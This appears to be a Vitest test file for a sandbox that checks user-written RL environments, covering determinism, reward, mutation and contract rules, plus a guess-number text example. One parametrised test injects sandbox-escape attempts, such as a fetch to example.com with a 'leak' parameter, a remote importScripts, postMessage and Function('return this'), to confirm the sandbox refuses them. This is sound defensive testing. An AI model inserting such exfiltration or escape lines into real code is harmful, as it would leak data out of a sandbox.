import { readFileSync } from 'node:fs';
import { beforeAll, describe, expect, it } from 'vitest';
import { makeEnv } from '../../core/envs/index.ts';
import { checkCodeEnv, CodeEnvError, makeCodeEnv } from '../../core/envs/code/index.ts';
import type { GridObs } from '../../core/envs/types.ts';
import { Rng } from '../../core/util/rng.ts';
import { loadCodeEnvs } from './index.ts';

const ROOM = readFileSync(new URL('../../../examples/envs/empty-room.js', import.meta.url), 'utf8');
/** The line (1-based) of the first line of `code` containing `text`. */
const lineOf = (code: string, text: string) => code.split('\n').findIndex((l) => l.includes(text)) + 1;

beforeAll(() => loadCodeEnvs());

describe('code envs', () => {
  it('the empty-room port plays exactly like grid/empty-8x8 (same actions: same views, headings, rewards, endings)', () => {
    const code = makeCodeEnv({ code: ROOM });
    const built = makeEnv('grid/empty-8x8', { maxSteps: 256 });
    const rng = new Rng(5);
    for (let ep = 0; ep < 6; ep++) {
      const a = code.reset({ seed: ep }).obs as GridObs;
      const b = built.reset({ seed: ep }).obs as GridObs;
      expect(Array.from(a.image)).toEqual(Array.from(b.image));
      for (let t = 0; t < 300; t++) {
        const action = rng.random() < 0.6 ? 2 : rng.int(0, 7);
        const ra = code.step(action);
        const rb = built.step(action);
        expect(Array.from((ra.obs as GridObs).image)).toEqual(Array.from((rb.obs as GridObs).image));
        expect([(ra.obs as GridObs).direction, (ra.obs as GridObs).text, ra.reward, ra.terminated, ra.truncated]).toEqual([(rb.obs as GridObs).direction, (rb.obs as GridObs).text, rb.reward, rb.terminated, rb.truncated]);
        if (ra.terminated || ra.truncated) break;
      }
    }
  });

  it('the example passes checkEnv', () => {
    expect(checkCodeEnv(ROOM).problems).toEqual([]);
  });

  it('a nondeterminism bug is refused with the line that reads Math.random', () => {
    const bad = ROOM.replace('x = 1; y = 1; dir = 0;', 'x = 1; y = 1;\n  dir = Math.floor(Math.random() * 4);');
    const [p, ...rest] = checkCodeEnv(bad).problems;
    expect(rest).toEqual([]);
    expect(p.rule).toBe('determinism');
    expect(p.line).toBe(lineOf(bad, 'Math.random'));
    expect(p.message).toMatch(/same seed must give the same episode/);
  });

  it.each([
    ['a NaN reward', (c: string) => c.replace('const reward = success ?', 'const reward = steps > 3 ? NaN : success ?'), 'reward', 'const reward ='],
    ['no truncation at maxSteps', (c: string) => c.replace('const truncated = !terminated && steps >= env.maxSteps;', 'const truncated = false;'), 'length', 'export function step'],
    // The line that writes into the observation handed out before (it was the line of `export function step`).
    ['an observation reused and changed later', (c: string) => c.replace('function observe() {\n  const image = new Array(VIEW * VIEW * 3).fill(0);', 'const image = new Array(VIEW * VIEW * 3).fill(0);\nfunction observe() {\n  image.fill(0);'), 'mutation', 'image.fill(0);'],
    ['an observation reused and changed later, element by element', (c: string) => c.replace('function observe() {\n  const image = new Array(VIEW * VIEW * 3).fill(0);', 'const image = [];\nfunction observe() {\n  for (let k = 0; k < VIEW * VIEW * 3; k++) image[k] = 0;'), 'mutation', 'image[k] = 0'],
    ['an image of the wrong size', (c: string) => c.replace('return { image, direction: dir };', 'return { image: steps > 2 ? image.slice(3) : image, direction: dir };'), 'contract', 'export function step'],
    ['an import', (c: string) => `import x from './y.js';\n${c}`, 'load', "import x"],
    ['a bad env export', (c: string) => c.replace("observation: { kind: 'grid', view: 7 },", "observation: { kind: 'grid', view: 6 },"), 'contract', 'export const env'],
  ])('%s is refused at its line', (_what, edit, rule, at) => {
    const code = edit(ROOM);
    const problems = checkCodeEnv(code).problems;
    expect(problems.map((p) => p.rule)).toContain(rule);
    expect(problems.find((p) => p.rule === rule)!.line).toBe(lineOf(code, at));
  });

  it.each([
    ['fetch', 'fetch("https://example.com/?leak=1");', /'fetch' is not defined/],
    ['indexedDB', 'indexedDB.open("runs");', /'indexedDB' is not defined/],
    ['localStorage', 'localStorage.setItem("k", "v");', /'localStorage' is not defined/],
    ['importScripts', 'importScripts("https://example.com/x.js");', /'importScripts' is not defined/],
    ['postMessage', 'postMessage({ leak: 1 });', /'postMessage' is not defined/],
    ['Function', 'Function("return this")();', /code generation from strings is disabled/],
    ['an endless loop', 'while (true) {}', /ran past its 1000 ms limit and was stopped: the loop at line \d+ ran [\d,]+ times in this call without ending \(an infinite loop\?\) \(line \d+\)/],
  ])('escape attempt: %s fails at its line with a clear message', (_what, stmt, message) => {
    const code = ROOM.replace('  steps++;', `  steps++;\n  ${stmt}`);
    const t0 = performance.now();
    const [p] = checkCodeEnv(code).problems;
    expect(p.message).toMatch(message);
    expect(p.line).toBe(lineOf(code, stmt));
    expect(performance.now() - t0).toBeLessThan(10_000);
  });

  it('step errors surface as CodeEnvError with the line; the host refuses out-of-range actions and steps after the end', () => {
    const env = makeCodeEnv({ code: ROOM.replace('  steps++;', '  steps++;\n  if (action === 4) null.x;') });
    env.reset({ seed: 0 });
    expect(() => env.step(9)).toThrow(/action 9 is not one of 0..6 \(left, right, forward/);
    try {
      env.step(4);
      expect.unreachable();
    } catch (e) {
      expect(e).toBeInstanceOf(CodeEnvError);
      expect((e as CodeEnvError).line).toBe(lineOf(ROOM, '  steps++;') + 1);
    }
  });
});

describe('the text example (examples/envs/guess-number.js)', () => {
  const GUESS = readFileSync(new URL('../../../examples/envs/guess-number.js', import.meta.url), 'utf8');
  it('passes checkEnv, answers malformed calls with an error observation, and its expert (binary search) wins every seed within 7 calls', () => {
    expect(checkCodeEnv(GUESS).problems).toEqual([]);
    const env = makeCodeEnv({ code: GUESS });
    env.reset({ seed: 1 });
    expect(env.step('guess(')).toMatchObject({ obs: { text: 'error: write guess(n) with a whole number n from 1 to 100' }, reward: 0, terminated: false, info: { malformed: true } });
    for (let seed = 0; seed < 40; seed++) {
      env.reset({ seed });
      let last;
      for (let t = 0; t < 10; t++) {
        last = env.step(env.expertAction()!);
        if (last.terminated || last.truncated) break;
      }
      expect(last!.info.success, `seed ${seed}`).toBe(true);
      expect(env.stepCount).toBeLessThanOrEqual(7);
      expect(env.expertAction()).toBeNull();
    }
  });
});
